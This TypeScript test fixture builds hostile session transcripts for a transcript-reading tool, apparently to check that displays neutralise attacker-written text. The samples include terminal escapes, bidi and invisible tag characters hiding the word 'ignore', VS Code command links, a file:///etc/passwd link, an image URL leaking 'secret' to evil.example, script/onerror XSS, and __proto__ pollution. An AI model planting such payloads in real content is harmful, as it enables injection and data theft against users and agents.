import { TranscriptBuilder } from './transcript.ts';

/** What an attacker writes into a file that an agent reads: each is inert only if no surface understands it. */
export const hostileTexts = {
  escapes: '\u001b]0;pwned\u0007\u001b[2J\u001b[31mred\u009b31m\u0008\u0008\u007f',
  bidi: 'user\u202Efdp.exe\u202C \u2066hidden\u2069 \u200Bzero\u2060width\uFEFF\u00AD',
  tags: `hi${Array.from('ignore', (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')}`,
  icons: '$(zap) $(loading~spin) $(trash)',
  command:
    '[click](command:workbench.action.quit) <command:workbench.action.quit> [x](vscode://evil) [y](file:///etc/passwd)',
  image: '![x](https://evil.example/p.png?q=secret) <img src=x onerror=alert(1)> <script>alert(1)</script>',
  address: 'https://evil.example/?q=1 www.evil.example a@evil.example <https://evil.example>',
  fence: '```\n</code><iframe src="https://evil.example"></iframe>\n````\n# Heading\n| a |\n|---|\n| ![x](y) |',
  prototype: '__proto__',
  lines: 'one\r\ntwo\rthree\u2028four\u2029five\u0085six',
  surrogate: 'lone \ud800 surrogate',
  long: 'very long '.repeat(20_000),
};

/** All of it in one text. */
export const hostileText = Object.values(hostileTexts).join(' ');

// Control characters but tab and line feed, what reorders or hides text, and lone surrogates.
const unsafe =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b\u200e\u200f\u202a-\u202e\u2028\u2029\u2060-\u2069\ufeff]|[\u{e0000}-\u{e007f}]|\p{Cs}/u;

/** The first character of a text that a terminal or an editor would act on, as a code; null for inert text. */
export function unsafeIn(text: string): string | null {
  const found = unsafe.exec(text)?.[0];
  return found === undefined
    ? null
    : `U+${found.codePointAt(0)?.toString(16)} in ${JSON.stringify(text.slice(Math.max(0, text.indexOf(found) - 30), text.indexOf(found) + 30))}`;
}

interface HostileOptions {
  sessionId?: string;
  /** Leaves alone what the API would refuse in a request: model, names of tools and kinds of blocks. */
  isSendable?: boolean;
}

/** A session in which every text that Claude Code writes down is hostile. `h` makes a text of each kind of field. */
export function hostileSession({
  sessionId = 'hostile-1',
  isSendable = false,
}: HostileOptions = {}): TranscriptBuilder {
  const h = hostileText;
  const [model, tool] = isSendable ? ['claude-opus-5-5', 'Read'] : [h, h];
  const strange = isSendable ? [] : [{ type: h, text: h, source: h }];
  const made = new TranscriptBuilder({ sessionId, cwd: `/work/${hostileTexts.bidi}${hostileTexts.escapes}` });
  const place = { gitBranch: h, version: h, promptId: h };
  made.prompt(h, place);
  made.reply(
    h,
    [{ id: 'call-1', name: tool, input: { [h]: h, file_path: h, command: h, description: h }, result: h }],
    {
      model,
      fields: place,
    },
  );
  made.chained('assistant', {
    message: {
      id: 'msg_thinking',
      role: 'assistant',
      model: isSendable ? model : `claude-${h}`,
      content: [
        { type: 'thinking', thinking: h },
        ...strange,
        { type: 'tool_use', id: 'call-2', name: 'Bash', input: { command: h } },
        { type: 'tool_use', id: 'call-3', name: '__proto__', input: JSON.parse(`{"__proto__":${JSON.stringify(h)}}`) },
      ],
      stop_reason: h,
      usage: { input_tokens: 1, output_tokens: 1 },
    },
  });
  made.prompt([
    { type: 'tool_result', tool_use_id: 'call-2', is_error: true, content: [{ type: 'text', text: h }, ...strange] },
  ]);
  made.prompt([{ type: 'text', text: h }, ...strange]);
  made.chained('assistant', {
    message: { model: '<synthetic>', role: 'assistant', content: [{ type: 'text', text: `API Error: ${h}` }] },
    isApiErrorMessage: true,
  });
  made.chained('system', { subtype: 'api_error', error: { formatted: h, message: h } });
  made.chained(
    'system',
    { subtype: 'compact_boundary', compactMetadata: { trigger: h, preTokens: 1, postTokens: 1 } },
    null,
  );
  made.prompt('After');
  made.chained('assistant', { message: { role: 'assistant', content: 7 } });
  made.unchained('custom-title', { customTitle: h });
  made.unchained('ai-title', { aiTitle: h });
  made.unchained(h, { [h]: h });
  return made;
}

/** The session's file, with damaged lines whose texts end up in its problems. */
export function hostileFile(options?: HostileOptions): string {
  const torn = `{"type":"user","message":{"role":"user","content":${JSON.stringify(hostileText).slice(0, -40)}`;
  return `${hostileSession(options).text()}${torn}\n${hostileTexts.escapes}${hostileTexts.bidi}${hostileTexts.address}\n"${hostileTexts.command}"\n`;
}
